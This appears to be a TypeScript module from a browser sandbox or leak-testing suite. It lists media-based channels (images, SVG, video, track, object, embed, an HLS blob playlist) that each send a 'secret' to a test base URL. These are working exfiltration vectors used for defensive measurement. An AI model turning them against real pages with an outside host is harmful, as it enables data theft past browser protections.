import type { Channel } from "./channel.ts";

/** Pictures, sound, plug-ins. */
export const MEDIA: readonly Channel[] = [
  {
    id: "img",
    family: "media",
    entry: 5,
    attack: (t) => {
      new Image().src = `${t.base}/img?secret=1`;
    },
  },
  {
    id: "img_srcset",
    family: "media",
    entry: 5,
    attack: (t) => {
      new Image().srcset = `${t.base}/img?secret=1 1x`;
    },
  },
  {
    id: "picture",
    family: "media",
    entry: 5,
    attack: (t) =>
      t.markup(`<picture><source srcset="${t.base}/img?secret=1"><img src="data:,"></picture>`),
  },
  {
    id: "input_image",
    family: "media",
    entry: 5,
    attack: (t) => t.element("input", { type: "image", src: `${t.base}/img?secret=1` }),
  },
  {
    id: "svg_image",
    family: "media",
    entry: 5,
    attack: (t) => t.markup(`<svg><image href="${t.base}/img?secret=1"/></svg>`),
  },
  {
    id: "svg_use",
    family: "media",
    entry: 5,
    attack: (t) => t.markup(`<svg><use href="${t.base}/img?secret=1#part"/></svg>`),
  },
  {
    id: "svg_feimage",
    family: "media",
    entry: 5,
    attack: (t) =>
      t.markup(
        `<svg width="9" height="9"><filter id="leak"><feImage href="${t.base}/img?secret=1"/></filter><circle r="9" filter="url(#leak)"/></svg>`,
      ),
  },
  {
    id: "video",
    family: "media",
    entry: 8,
    attack: (t) => t.element("video", { src: `${t.base}/video?secret=1`, autoplay: "" }),
  },
  {
    id: "video_poster",
    family: "media",
    entry: 5,
    attack: (t) => t.element("video", { poster: `${t.base}/img?secret=1` }),
  },
  {
    id: "track",
    family: "media",
    entry: 8,
    attack: (t) => {
      const video = t.element("video", { crossorigin: "" });
      const track = document.createElement("track");
      track.src = `${t.base}/track?secret=1`;
      track.default = true;
      video.append(track);
      track.track.mode = "showing";
    },
  },
  {
    id: "object_tag",
    family: "media",
    entry: 9,
    attack: (t) => t.element("object", { data: `${t.base}/object?secret=1` }),
  },
  {
    id: "embed_tag",
    family: "media",
    entry: 9,
    attack: (t) => t.element("embed", { src: `${t.base}/embed?secret=1` }),
  },
  {
    id: "svg_animate_href",
    family: "media",
    entry: 5,
    attack: (t) =>
      t.markup(
        `<svg><image width="9" height="9"><animate attributeName="href" values="${t.base}/img?secret=1" dur="1s" fill="freeze"/></image></svg>`,
      ),
  },
  {
    id: "hls_blob",
    family: "media",
    entry: 8,
    attack: (t) => {
      const list = `#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXT-X-KEY:METHOD=AES-128,URI="${t.base}/key?secret=1"\n#EXTINF:9,\n${t.base}/video?secret=1\n#EXT-X-ENDLIST\n`;
      const src = t.blob(list, "application/vnd.apple.mpegurl");
      return t.element("video", { autoplay: "", muted: "", src }).play();
    },
  },
];
